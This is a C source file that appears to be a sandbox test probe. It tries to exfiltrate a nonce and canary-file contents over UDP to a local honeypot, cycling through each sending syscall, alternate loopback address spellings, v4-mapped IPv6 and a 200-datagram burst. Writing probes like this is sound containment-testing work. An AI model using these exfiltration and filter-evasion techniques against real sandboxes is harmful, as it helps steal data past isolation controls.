/* net.udp.exfil — catalog N02/N06. UDP needs no connection, and Landlock's network rules (TCP only) do not
 * cover it, so with net = none the empty network namespace is the only fence. The attack sends the nonce and
 * whatever it could read of the canary to the host's UDP honeypot with every sending call (sendto, connect +
 * send, write, sendmsg, sendmmsg), every loopback spelling (127.0.0.1, 127.1, 0.0.0.0, v4-mapped
 * ::ffff:127.0.0.1 on an AF_INET6 socket) and a bounded burst of 200 datagrams (udp-flood).
 * Args: udp_port nonce canary_file canary_fd */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

static char payload[4096];
static size_t plen;

static void build_payload(const char *nonce, const char *canary_file, int canary_fd) {
    plen = (size_t)snprintf(payload, sizeof payload, "gauntlet-%s udp exfil:", nonce);
    int fd = open(canary_file, O_RDONLY);
    if (fd >= 0) {
        ssize_t n = read(fd, payload + plen, 1024);
        if (n > 0) plen += (size_t)n;
        close(fd);
    }
    printf("read canary file: %s\n", fd >= 0 ? "yes" : strerror(errno));
    char b[1024];
    ssize_t n = pread(canary_fd, b, sizeof b, 0);
    if (n > 0 && plen + (size_t)n < sizeof payload) {
        memcpy(payload + plen, b, (size_t)n);
        plen += (size_t)n;
    }
}

static void show(const char *what, long r) {
    printf("%-40s %s\n", what, r >= 0 ? "SENT" : strerror(errno));
}

int main(int argc, char **argv) {
    if (argc < 5) return 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    int port = atoi(argv[1]);
    build_payload(argv[2], argv[3], atoi(argv[4]));
    const char *v4[] = {"127.0.0.1", "127.1", "0.0.0.0", "2130706433"};
    for (size_t i = 0; i < 4; i++) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        inet_aton(v4[i], &a.sin_addr);
        char label[96];
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        if (s < 0) { show("socket(AF_INET, SOCK_DGRAM)", -1); continue; }
        snprintf(label, sizeof label, "sendto %s:%d", v4[i], port);
        show(label, sendto(s, payload, plen, 0, (struct sockaddr *)&a, sizeof a));
        struct iovec iov = {payload, plen};
        struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &iov, .msg_iovlen = 1};
        snprintf(label, sizeof label, "sendmsg %s:%d", v4[i], port);
        show(label, sendmsg(s, &m, 0));
        struct mmsghdr mm[4];
        for (int k = 0; k < 4; k++) mm[k] = (struct mmsghdr){.msg_hdr = m};
        snprintf(label, sizeof label, "sendmmsg x4 %s:%d", v4[i], port);
        show(label, sendmmsg(s, mm, 4, 0));
        snprintf(label, sizeof label, "connect+send %s:%d", v4[i], port);
        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
            show(label, send(s, payload, plen, 0));
            snprintf(label, sizeof label, "connect+write %s:%d", v4[i], port);
            show(label, write(s, payload, plen));
        } else {
            show(label, -1);
        }
        close(s);
    }
    /* v4-mapped on an AF_INET6 socket (dual stack) */
    int s6 = socket(AF_INET6, SOCK_DGRAM, 0);
    if (s6 >= 0) {
        int off = 0;
        setsockopt(s6, IPPROTO_IPV6, IPV6_V6ONLY, &off, sizeof off);
        struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
        inet_pton(AF_INET6, "::ffff:127.0.0.1", &a6.sin6_addr);
        show("sendto [::ffff:127.0.0.1] (AF_INET6)", sendto(s6, payload, plen, 0, (struct sockaddr *)&a6, sizeof a6));
        close(s6);
    } else {
        show("socket(AF_INET6, SOCK_DGRAM)", -1);
    }
    /* bounded burst */
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    int sent = 0;
    if (s >= 0) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        for (int k = 0; k < 200; k++)
            if (sendto(s, payload, plen, MSG_DONTWAIT, (struct sockaddr *)&a, sizeof a) >= 0) sent++;
        close(s);
    }
    printf("burst: %d of 200 datagrams sent\n", sent);
    return 0;
}
